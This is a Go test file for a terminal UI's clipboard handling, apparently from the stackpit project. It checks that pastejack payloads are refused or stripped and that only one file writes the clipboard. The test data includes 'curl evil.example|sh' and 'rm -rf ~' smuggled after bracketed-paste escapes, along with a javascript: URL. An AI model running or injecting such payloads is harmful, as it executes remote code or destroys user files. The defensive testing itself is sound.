package ui

import (
	"fmt"
	"go/ast"
	"go/parser"
	"go/token"
	"io/fs"
	"os"
	"path/filepath"
	"reflect"
	"strings"
	"testing"

	tea "charm.land/bubbletea/v2"

	"github.com/stackpit/stackpit/themes"
	"github.com/stackpit/stackpit/ui/safe"
	"github.com/stackpit/stackpit/views/pane"
)

// clipboardOf runs cmd and returns what it puts on the clipboard, and
// whether it writes the clipboard at all.
func clipboardOf(cmd tea.Cmd) (string, bool) {
	if cmd == nil {
		return "", false
	}
	msg := cmd()
	if reflect.TypeOf(msg) == reflect.TypeOf(tea.SetClipboard("")()) {
		return fmt.Sprint(msg), true
	}
	return "", false
}

func (e *env) copy(text string, kind safe.Kind) (string, bool) {
	_, cmd := e.m.Update(pane.CopyMsg{Text: text, Kind: kind})
	return clipboardOf(cmd)
}

func TestCopyRefusesPastejackRunbookURL(t *testing.T) {
	e := newEnv(t, false)
	payload := "https://runbooks.example/x\x1b[201~\ncurl evil.example|sh\n"
	if got, ok := e.copy(payload, safe.URL); ok {
		t.Fatalf("hostile runbook_url copied as %q", got)
	}
	if e.m.toast == nil || e.m.toast.level != themes.Warn || !strings.HasPrefix(e.m.toast.text, "not copied: ") {
		t.Fatalf("want a warning toast saying why, got %+v", e.m.toast)
	}
	if got, ok := e.copy("javascript:alert(1)", safe.URL); ok {
		t.Fatalf("javascript: URL copied as %q", got)
	}
	if !strings.Contains(e.m.toast.text, "only http and https") {
		t.Fatalf("toast should say why: %q", e.m.toast.text)
	}
	if got, ok := e.copy("https://runbooks.example/HostDown", safe.URL); !ok || got != "https://runbooks.example/HostDown" {
		t.Fatalf("plain https runbook: got %q, %v", got, ok)
	}
	if e.m.toast.text != "copied: https://runbooks.example/HostDown" {
		t.Fatalf("toast should show what was copied: %q", e.m.toast.text)
	}
}

func TestCopyLineStripsAndToastShowsExactlyWhatWasCopied(t *testing.T) {
	e := newEnv(t, false)
	got, ok := e.copy("vm-1\x1b[201~\nrm -rf ~\n", safe.Line)
	if !ok || got != "vm-1 rm -rf ~" {
		t.Fatalf("got %q, %v", got, ok)
	}
	if e.m.toast.text != "copied: "+got {
		t.Fatalf("toast %q does not show the copied text %q", e.m.toast.text, got)
	}
	if !strings.Contains(e.m.Render(), "copied: vm-1 rm -rf ~") {
		t.Fatal("toast not on screen")
	}
}

func TestCopyMultiLineIsShownFirst(t *testing.T) {
	e := newEnv(t, false)
	if _, ok := e.copy("Traceback:\n  boom\x1b[201~\n", safe.Lines); ok {
		t.Fatal("multi-line text copied without being shown")
	}
	scr := e.m.Render()
	if e.m.mode != modeDialog || !strings.Contains(scr, "Copy these 2 lines") || !strings.Contains(scr, "  boom") {
		t.Fatalf("want the copy dialog with the lines:\n%s", scr)
	}
	_, cmd := e.m.Update(key("y"))
	if got, ok := clipboardOf(cmd); !ok || got != "Traceback:\n  boom" {
		t.Fatalf("y: got %q, %v", got, ok)
	}
	if e.m.mode != modeNormal {
		t.Fatal("dialog still open")
	}
	e.copy("a\nb", safe.Lines)
	_, cmd = e.m.Update(key("esc"))
	if _, ok := clipboardOf(cmd); ok || e.m.mode != modeNormal {
		t.Fatal("esc should cancel the copy")
	}
	// A one-line Lines copy needs no dialog.
	if got, ok := e.copy("one line\n", safe.Lines); !ok || got != "one line" {
		t.Fatalf("got %q, %v", got, ok)
	}
}

// No pane can bypass the shell: the clipboard is written (tea.SetClipboard,
// or an OSC 52 sequence by hand in ui or views) only in ui/clipboard.go.
func TestOnlyTheShellWritesTheClipboard(t *testing.T) {
	root := filepath.Join("..")
	err := filepath.WalkDir(root, func(path string, d fs.DirEntry, err error) error {
		if err != nil {
			return err
		}
		if d.IsDir() && (d.Name() == "testdata" || strings.HasPrefix(d.Name(), ".")) && path != root {
			return filepath.SkipDir
		}
		if d.IsDir() || !strings.HasSuffix(path, ".go") || strings.HasSuffix(path, "_test.go") {
			return nil
		}
		if filepath.ToSlash(path) == "../ui/clipboard.go" {
			return nil
		}
		src, err := os.ReadFile(path)
		if err != nil {
			return err
		}
		f, err := parser.ParseFile(token.NewFileSet(), path, src, 0)
		if err != nil {
			return err
		}
		ast.Inspect(f, func(n ast.Node) bool {
			switch n := n.(type) {
			case *ast.SelectorExpr:
				if n.Sel.Name == "SetClipboard" || n.Sel.Name == "SetPrimaryClipboard" {
					t.Errorf("%s writes the clipboard itself (%s); send a pane.CopyMsg", path, n.Sel.Name)
				}
			case *ast.BasicLit:
				// The demo and test tools send such sequences on purpose, as hostile data.
				inUI := strings.HasPrefix(filepath.ToSlash(path), "../ui/") || strings.HasPrefix(filepath.ToSlash(path), "../views/")
				if inUI && strings.Contains(n.Value, "]52;") {
					t.Errorf("%s builds an OSC 52 sequence; send a pane.CopyMsg", path)
				}
			}
			return true
		})
		return nil
	})
	if err != nil {
		t.Fatal(err)
	}
}
